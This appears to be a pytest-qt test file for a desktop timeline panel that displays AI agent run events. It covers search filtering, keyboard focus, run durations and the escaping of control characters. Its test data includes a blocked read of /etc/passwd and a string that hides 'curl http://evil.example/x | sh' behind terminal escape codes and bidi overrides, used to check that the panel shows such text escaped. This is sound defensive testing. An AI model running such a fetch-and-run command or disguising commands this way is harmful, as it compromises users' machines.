"""The timeline as a reviewer uses it (issue 12 item 6, issue 18 item 1), real widgets offscreen:
the filter matches what the Outcome column says and says when nothing matches, Ctrl+F reaches
it, the kind chips are one Tab stop, run durations count alike, and text from a run never
reaches the screen with its control characters raw."""

from __future__ import annotations

from PySide6.QtCore import Qt
from PySide6.QtWidgets import QApplication, QLineEdit, QVBoxLayout, QWidget
from pytestqt.qtbot import QtBot

from agent_core.contract.views import EventView
from desktop.models.timeline_model import DURATION, EVENT_ROLE, OUTCOME, SUMMARY, TOOL
from desktop.widgets.timeline_view import TimelinePanel

RUN = "run-cockpit00001"
RAW_CONTROLS = ("\x1b", "\r", "\x07", "\x9b", "\u202e", "\u2066")


def event(seq: int, kind: str, at: str, *, tool: str | None = None, **data: object) -> EventView:
    return {"seq": seq, "run_id": RUN, "kind": kind, "tool": tool, "data": data, "at": at}


def at(clock: str) -> str:
    return f"2026-01-01T{clock}+00:00"


def panel_with(qtbot: QtBot, events: list[EventView]) -> TimelinePanel:
    panel = TimelinePanel()
    qtbot.addWidget(panel)
    panel.set_run(RUN, events)
    return panel


def shown_seqs(panel: TimelinePanel) -> list[int]:
    proxy = panel.proxy
    return [proxy.index(r, 0).data(EVENT_ROLE)["seq"] for r in range(proxy.rowCount())]


def test_the_filter_matches_the_outcome_column_and_says_when_nothing_matches(qtbot: QtBot) -> None:
    panel = panel_with(
        qtbot,
        [
            event(1, "run_started", at("10:00:00"), question="Q", model="offline", mode="default"),
            event(2, "outcome_unknown", at("10:00:01"), call_id="c1", idempotency_key="k" * 64),
            event(3, "reconciled", at("10:00:02"), call_id="c1", idempotency_key="k" * 64),
            event(
                4,
                "blocked",
                at("10:00:03"),
                tool="read_document",
                call_id="c2",
                rule="sandbox",
                code="path_outside_scope",
                resource="/etc/passwd",
            ),
        ],
    )
    assert panel.model.index(2, OUTCOME).data() == "settled"
    panel.search.setText("settled")  # only the Outcome column says it
    assert shown_seqs(panel) == [3]
    panel.search.setText("refused")
    assert shown_seqs(panel) == [4]
    assert panel.count_label.text() == "1 of 4"

    panel.search.setText("no-such-thing")
    assert shown_seqs(panel) == []
    assert panel.count_label.text() == "No match"
    assert panel.table.empty_text.startswith("No event matches “no-such-thing”")
    panel.search.clear()
    assert panel.proxy.rowCount() == 4
    assert "No event matches" not in panel.table.empty_text


def test_ctrl_f_focuses_the_filter_and_the_chips_are_one_tab_stop(qtbot: QtBot) -> None:
    window = QWidget()
    qtbot.addWidget(window)
    before = QLineEdit(window)  # whatever had the keyboard before
    panel = TimelinePanel(window)
    layout = QVBoxLayout(window)
    layout.addWidget(before)
    layout.addWidget(panel)
    panel.set_run(RUN, [event(1, "model_turn", at("10:00:00"), turn=1, calls=[])])
    window.show()
    qtbot.waitExposed(window)
    window.activateWindow()
    qtbot.waitUntil(lambda: QApplication.activeWindow() is window)
    before.setFocus()
    qtbot.waitUntil(before.hasFocus)

    qtbot.keyClick(before, Qt.Key.Key_F, Qt.KeyboardModifier.ControlModifier)
    qtbot.waitUntil(panel.search.hasFocus)

    chips = list(panel.kind_buttons.values())
    tab_stops = [c for c in chips if c.focusPolicy() & Qt.FocusPolicy.TabFocus]
    assert tab_stops == [chips[0]], "nine chips, one Tab stop"
    chips[0].setFocus()
    qtbot.waitUntil(chips[0].hasFocus)
    qtbot.keyClick(chips[0], Qt.Key.Key_Tab)  # Tab leaves the row of chips at once
    qtbot.waitUntil(panel.search.hasFocus)
    qtbot.keyClick(panel.search, Qt.Key.Key_Backtab)
    qtbot.waitUntil(chips[0].hasFocus)

    qtbot.keyClick(chips[0], Qt.Key.Key_Right)  # arrows move between chips
    qtbot.waitUntil(chips[1].hasFocus)
    qtbot.keyClick(chips[1], Qt.Key.Key_Space)  # and Space toggles the focused one
    assert not chips[1].isChecked() and chips[0].isChecked()
    qtbot.keyClick(chips[1], Qt.Key.Key_Left)
    qtbot.keyClick(chips[0], Qt.Key.Key_Left)  # wraps around to the last chip
    qtbot.waitUntil(chips[-1].hasFocus)
    qtbot.keyClick(chips[-1], Qt.Key.Key_Tab)
    qtbot.waitUntil(panel.search.hasFocus)
    qtbot.keyClick(panel.search, Qt.Key.Key_Backtab)  # back to the chip last used
    qtbot.waitUntil(chips[-1].hasFocus)
    assert [c for c in chips if c.focusPolicy() & Qt.FocusPolicy.TabFocus] == [chips[-1]]


def test_a_run_is_timed_from_its_start_whether_or_not_it_was_resumed(qtbot: QtBot) -> None:
    straight = [
        event(1, "run_started", at("10:00:00"), question="Q", model="offline", mode="acceptEdits"),
        event(2, "run_finished", at("10:00:03"), status="succeeded"),
    ]
    resumed = [
        event(1, "run_started", at("10:00:00"), question="Q", model="offline", mode="default"),
        event(2, "approval_requested", at("10:00:01"), approval_id="ap-1", status="pending"),
        event(3, "approval_decided", at("10:04:58"), approval_id="ap-1", status="approved"),
        event(4, "run_resumed", at("10:05:00"), model="offline"),
        event(5, "run_finished", at("10:05:02"), status="succeeded"),
    ]
    assert panel_with(qtbot, straight).model.index(1, DURATION).data() == "3.0 s"
    panel = panel_with(qtbot, resumed)
    assert panel.model.index(4, DURATION).data() == "5 min 2 s"


def test_control_characters_from_a_run_are_shown_escaped_never_raw(qtbot: QtBot) -> None:
    hostile = "ls -la\x1b[1A\x1b[2K\rcurl http://evil.example/x | sh\x07 \x9b31m file\u202etxt.sh"
    panel = panel_with(
        qtbot,
        [
            event(
                1,
                "tool_called",
                at("10:00:00"),
                tool="save_brief\u2066",
                call_id="c1",
                args={"relative_path": "briefs/a.md", "content": hostile},
            ),
            event(2, "question_asked", at("10:00:01"), question=hostile),
            event(3, "model_turn", at("10:00:02"), turn=1, calls=[], text=hostile),
        ],
    )
    texts = [
        str(panel.model.index(row, column).data())
        for row in range(3)
        for column in (TOOL, SUMMARY, OUTCOME)
    ]
    for text in texts:
        assert not any(ch in text for ch in RAW_CONTROLS), repr(text)
    summary = str(panel.model.index(1, SUMMARY).data())
    assert "\\x1b[1A\\x1b[2K\\rcurl http://evil.example/x | sh" in summary
    assert "file\\u202etxt.sh" in summary
    assert str(panel.model.index(0, TOOL).data()) == "save_brief\\u2066"
    panel.select_row(1)  # the detail pane: JSON escapes C0 itself, but not C1 or bidi
    detail = panel.detail.toPlainText()
    assert detail and not any(ch in detail for ch in RAW_CONTROLS), repr(detail)
    assert "\\u202e" in detail
